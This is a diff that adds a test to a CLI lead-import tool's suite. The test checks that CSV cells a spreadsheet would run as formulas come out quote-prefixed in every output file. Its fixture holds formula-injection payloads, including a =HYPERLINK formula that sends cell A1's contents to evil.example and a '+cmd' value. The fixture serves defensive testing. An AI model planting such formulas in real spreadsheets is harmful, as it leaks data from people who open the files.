@@ -212,6 +212,39 @@ describe(`leadflow run (standalone mode), generated files of seed ${seed}`, () =
     expect(bad.stderr).toMatch(/INGEST_MAX_ROWS must be an integer, got "lots"/);
   });
 
+  it('writes every cell a spreadsheet would run as a formula with a quote in front, in all four files, and plain numbers as they are', async () => {
+    writeFileSync(join(dir, 'formulas.csv'), [
+      'first_name,last_name,email,phone,company,@Note',
+      'Ann,Lee,ann@formula.test,+1 201 555 0101,=1+1,"=HYPERLINK(""http://evil.example/?""&A1,""click"")"',
+      'Ann,Lee,ann@formula.test,,@SUM(A1:A9),-2+3',
+      '"=SUM(1,2)",,,,,+cmd',
+      'Bob,Ray,bob@formula.test,(201) 555-0199,-1-1,x',
+      '',
+    ].join('\r\n'));
+    writeFileSync(join(dir, 'formulas-dnc.txt'), '2015550199\n');
+    const out = join(dir, 'out-formulas');
+    const res = await leadflow(['run', join(dir, 'formulas.csv'), '--dnc', join(dir, 'formulas-dnc.txt'), '--out', out], { LEADFLOW_DATA_DIR: join(dir, 'formulas-db') });
+    expect([res.code, res.stderr]).toEqual([0, '']);
+    const bytes = (kind: string) => readFileSync(join(out, `${kind}.csv`), 'utf8');
+    const [leadsHeader, lead] = bytes('leads').split('\r\n');
+    expect(leadsHeader!.endsWith(`,original,"'@Note"`)).toBe(true);
+    expect(lead).toContain(`,+12015550101,`);
+    expect(lead).toContain(`,"'=1+1",`);
+    expect(lead!.endsWith(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`)).toBe(true);
+    expect(bytes('duplicates').split('\r\n')[1]).toContain(`,"'@SUM(A1:A9)",`);
+    expect(bytes('rejected').split('\r\n')).toEqual([
+      `row,file,reason,detail,first_name,last_name,email,phone,company,"'@Note"`,
+      `3,formulas.csv,NO_CONTACT,"no usable contact: give a valid email, a valid phone number, or a street with a city or postal code","'=SUM(1,2)",,,,,"'+cmd"`,
+      '',
+    ]);
+    expect(bytes('suppressed').split('\r\n')[1]).toMatch(/^4,formulas\.csv,DNC_INTERNAL,Bob,Ray,.*,\+12015550199,.*,"'-1-1",/);
+    // Read back as a spreadsheet would, no cell of any file starts a formula but a plain number.
+    for (const kind of ['leads', 'duplicates', 'rejected', 'suppressed']) {
+      const runnable = csvRows(bytes(kind)).flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+\.?\d*|\.\d+)$/.test(cell));
+      expect(runnable, kind).toEqual([]);
+    }
+  });
+
   it('keeps both values of two columns with the same header, named apart, in every output file', async () => {
     writeFileSync(join(dir, 'notes.csv'), REPEATED_HEADER_CSV);
     const out = join(dir, 'out-notes');
